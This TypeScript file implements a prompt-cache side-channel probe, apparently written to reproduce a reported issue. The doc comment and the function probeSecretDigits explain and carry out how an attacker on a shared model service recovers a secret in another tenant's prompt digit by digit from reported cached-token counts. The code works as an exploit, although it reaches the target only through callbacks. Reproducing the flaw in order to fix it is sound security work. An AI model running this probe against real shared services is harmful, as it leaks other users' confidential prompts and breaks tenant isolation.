/**
 * The prompt-cache probe of issue 21. Someone who can send prompts to the model that also serves
 * another owner guesses a secret in that owner's prompt one digit at a time: each guess is the
 * other owner's prompt up to the secret, the digits found so far and one more; the digit whose
 * guess reports the most cached prompt tokens matched one more token of what the cache holds.
 * Between guesses the other owner sends its prompt again (it keeps using the service), since each
 * guess overwrites the sequence it lands on.
 */
export interface ProbeResult {
  /** What the probe made of the secret: a digit per position, `?` where no guess stood out. */
  recovered: string;
  /** Every cached-token count the guesses were told. */
  cachedCounts: number[];
}

export async function probeSecretDigits({
  length,
  victim,
  guess,
}: {
  length: number;
  /** The other owner's request, sent again before each guess. */
  victim: () => Promise<unknown>;
  /** Sends the prompt that ends in `digits`; resolves to the cached prompt tokens reported. */
  guess: (digits: string) => Promise<number>;
}): Promise<ProbeResult> {
  let recovered = "";
  const cachedCounts: number[] = [];
  for (let position = 0; position < length; position++) {
    const counts: number[] = [];
    for (let digit = 0; digit < 10; digit++) {
      await victim();
      counts.push(await guess(`${recovered}${digit}`));
    }
    cachedCounts.push(...counts);
    const best = Math.max(...counts);
    const standsOut = counts.filter((count) => count === best).length === 1;
    recovered += standsOut ? String(counts.indexOf(best)) : "?";
  }
  return { recovered, cachedCounts };
}
